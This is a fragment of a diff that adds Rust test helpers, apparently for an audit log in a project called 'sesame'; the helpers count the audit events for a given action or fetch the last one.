+        .list_audit(&AuditFilter {
+            action: Some(action.into()),
+            ..Default::default()
+        })
+        .await
+        .unwrap()
+        .len()
+}
+
+/// The only (or last) event of `action`.
+async fn one(store: &Store, action: &str) -> sesame::audit::AuditEvent {
+    store
+        .list_audit(&AuditFilter {
+            action: Some(action.into()),
+            ..Default::default()
+        })
+        .await
+        .unwrap()
+        .pop()
+        .unwrap_or_else(|| panic!("no {action} event"))
 }
